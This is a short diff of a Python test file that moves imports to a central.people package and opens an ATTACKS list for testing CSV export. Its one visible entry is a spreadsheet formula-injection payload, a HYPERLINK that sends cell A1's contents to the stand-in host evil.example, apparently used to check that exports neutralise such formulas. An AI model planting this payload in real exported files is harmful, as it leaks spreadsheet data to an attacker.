@@ -9,8 +9,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from central import csvio
-from central.coverage import Row, to_csv
+from central.people import csvio
+from central.people.coverage import Row, to_csv
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
